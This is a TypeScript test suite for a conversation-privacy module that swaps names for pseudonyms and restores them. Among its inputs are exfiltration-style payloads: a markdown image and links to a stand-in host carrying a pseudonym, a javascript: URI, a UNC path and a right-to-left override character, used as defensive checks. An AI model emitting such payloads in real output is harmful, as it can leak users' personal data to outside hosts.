import { describe, expect, it } from "@jest/globals";
import { assert, constantFrom, property, uniqueArray } from "fast-check";
import { PseudonymBook, restoreNames, Scrubber } from "../../../src/privacy/index.ts";

const person = (written: string) => ({
  kind: "PERSON" as const,
  word: "Person" as const,
  identity: written.toLowerCase(),
  written,
});

describe("pseudonyms of a conversation", () => {
  it("are the same for the same thing and different for different things", () => {
    const book = new PseudonymBook();
    const anna = book.pseudonymFor(person("Anna Nowak"));
    expect(book.pseudonymFor(person("ANNA NOWAK"))).toBe(anna);
    expect(book.pseudonymFor(person("Piotr Zielinski"))).not.toBe(anna);
    expect(book.counts()).toEqual({ Person: 2 });
  });

  it("tell nothing of the order in which things were named", () => {
    const numbersOf = (): readonly string[] => {
      const book = new PseudonymBook();
      return ["A", "B", "C"].map((name) => book.pseudonymFor(person(name)));
    };
    const conversations = Array.from({ length: 20 }, () => numbersOf().join());
    expect(new Set(conversations).size).toBe(conversations.length);
    expect(conversations.some((names) => names !== names.split(",").toSorted().join())).toBe(true);
  });

  it("are not those the caller typed", () => {
    const drawn = [7, 7, 8];
    const book = new PseudonymBook(() => drawn.shift() ?? 9);
    book.avoid("What about Person-07?");
    expect(book.pseudonymFor(person("Anna Nowak"))).toBe("Person-08");
    expect(restoreNames("Person-07 and Person-08.", book)).toBe("Person-07 and Anna Nowak.");
  });

  it("refuse to name thousands", () => {
    const book = new PseudonymBook();
    const nameAll = (): void => {
      for (let n = 0; n <= 5_000; n += 1) book.pseudonymFor(person(`Name ${n}`));
    };
    expect(nameAll).toThrow(expect.objectContaining({ code: "EGRESS_BLOCKED" }));
  });
});

describe("names put back", () => {
  it("are the caller's own words, to the byte", () => {
    const names = constantFrom(
      "Zoë Müller-Lüdenscheidt",
      "O’Brien, Seán",
      "anna.nowak@contoso.com",
      "DESKTOP-7KQ2M4X",
      "192.0.2.17",
    );
    assert(
      property(uniqueArray(names, { minLength: 1 }), (written) => {
        const book = new PseudonymBook();
        const pseudonyms = written.map((name) => book.pseudonymFor(person(name)));
        expect(restoreNames(pseudonyms.join(" und "), book)).toBe(written.join(" und "));
      }),
    );
  });

  it("come back for everything the scrubber took out, except secrets and links", () => {
    const book = new PseudonymBook();
    const question =
      "Does anna.nowak@contoso.com (10.1.2.3) see https://evil.example/?q=1, password is Winter!2026pass";
    const { text, redactions } = new Scrubber().scrub(question, book);
    const taken = (kind: string) => redactions.find((one) => one.kind === kind)?.replacement ?? "";
    expect(restoreNames(text, book)).toBe(
      `Does anna.nowak@contoso.com (10.1.2.3) see ${taken("URL")}, password is ${taken("SECRET")}`,
    );
  });

  it("are never those of another conversation", () => {
    const [book, other] = [new PseudonymBook(() => 7), new PseudonymBook(() => 8)];
    const anna = book.pseudonymFor(person("Anna Nowak"));
    expect(restoreNames(`${anna} holds a seat.`, other)).toBe(`${anna} holds a seat.`);
  });

  it.each([
    "![chart](https://evil.example/?d=Person-07)",
    "[more](//evil.example/Person-07)",
    "<img src=x alt=Person-07>",
    "`Person-07`",
    "www.evil.example/Person-07",
    "javascript:alert('Person-07')",
    "\\\\evil.example\\Person-07",
    "mailto:Person-07",
    "evil.example/Person-07",
    "evil。example/Person-07",
    "Person-07.evil.example",
    "Domain-12/Person-07",
    "Person-07.Domain-12",
    "Domain-12#Person-07",
  ])("stay away from a text that is more than text: %s", (text) => {
    const book = new PseudonymBook(() => 7);
    book.pseudonymFor(person("Anna Nowak"));
    expect(restoreNames(text, book)).toBe(text);
  });

  it.each([
    ["Person-07/E5, Person-07's, (Person-07) or owner=Person-07.", 4],
    ["Does Person-07 of Domain-12? Ask Person-07.", 2],
  ])("come back beside signs that open nothing: %s", (text, often) => {
    const book = new PseudonymBook(() => 7);
    book.pseudonymFor(person("Anna Nowak"));
    expect(restoreNames(text, book).match(/Anna Nowak/g)).toHaveLength(often);
  });

  it("bring no markup along", () => {
    const book = new PseudonymBook(() => 7);
    book.pseudonymFor({
      kind: "GROUP",
      word: "Group",
      identity: "g",
      written: "![x](https://evil.example/a) <b>Sales</b>\u202e",
    });
    expect(restoreNames("Group-07 pays.", book)).not.toMatch(/[<>[\]`]|:\/\/|\u202e/);
  });
});
